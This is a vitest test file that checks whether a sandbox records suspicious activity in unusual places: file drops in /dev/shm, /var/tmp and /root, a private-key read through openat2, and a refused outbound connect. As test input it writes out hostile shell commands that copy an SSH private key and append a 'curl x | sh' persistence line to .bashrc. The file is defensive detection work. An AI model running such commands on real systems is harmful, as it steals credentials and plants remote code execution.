// Evidence a script cannot dodge by choosing an unusual place or syscall: files dropped in /dev/shm,
// /var/tmp or /root are in the file-change evidence, a key read through openat2(2) is a sensitive read, and a
// non-blocking connect that is refused is shown blocked.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox } from '../../../src/sandbox/index.js';
import type { Sandbox } from '../../../src/sandbox/types.js';
import { fixture, requireSandboxTools } from './support.js';

let sandbox: Sandbox;

beforeAll(async () => {
  requireSandboxTools();
  sandbox = await createSandbox({
    backend: 'bubblewrap',
    seedCanaries: true,
    files: [fixture('openat2-read.py', 0o644), fixture('connect-refused.js', 0o644)],
  });
});

afterAll(async () => {
  await sandbox?.dispose();
});

describe('evidence from unusual places', () => {
  it('records files written to /dev/shm, /var/tmp and /root, with canaries copied there', async () => {
    const result = await sandbox.run({
      argv: [
        '/bin/sh',
        '-c',
        'echo stage > /dev/shm/.x; cp ~/.ssh/id_rsa /var/tmp/k; echo "curl x | sh" >> /root/.bashrc; echo done',
      ],
      env: {},
      limits: { wallMs: 10_000 },
    });
    expect(result.stdout).toContain('done');
    const changes = result.evidence.fsChanges.map((c) => `${c.root}:${c.path}`);
    expect(changes).toEqual(expect.arrayContaining(['dev-shm:.x', 'var-tmp:k', 'root:.bashrc']));
    const copied = result.evidence.fsChanges.find((c) => c.root === 'var-tmp' && c.path === 'k');
    expect(copied?.canaryTokens).toContain('ssh-private-key');
  });

  it('records a key read through openat2', async () => {
    const result = await sandbox.run({
      argv: ['python3', 'openat2-read.py', '/home/skill/.ssh/id_rsa'],
      env: {},
      limits: { wallMs: 10_000 },
    });
    expect(result.stdout).toMatch(/^read \d+ bytes/m);
    const reads = result.evidence.sensitiveReads.filter((r) => r.path === '/home/skill/.ssh/id_rsa');
    expect(reads.length).toBeGreaterThan(0);
    expect(reads[0]!.write).toBe(false);
  });

  it('shows a refused non-blocking connect as blocked', async () => {
    const result = await sandbox.run({
      argv: ['node', 'connect-refused.js', '203.0.113.7', '45678'],
      env: {},
      network: 'sink',
      limits: { wallMs: 10_000 },
    });
    expect(result.stdout).toContain('error ECONNREFUSED');
    const attempt = result.evidence.network.attempts.find((a) => a.address === '203.0.113.7');
    expect(attempt).toMatchObject({ port: 45678, blocked: true, error: 'ECONNREFUSED' });
  });
});
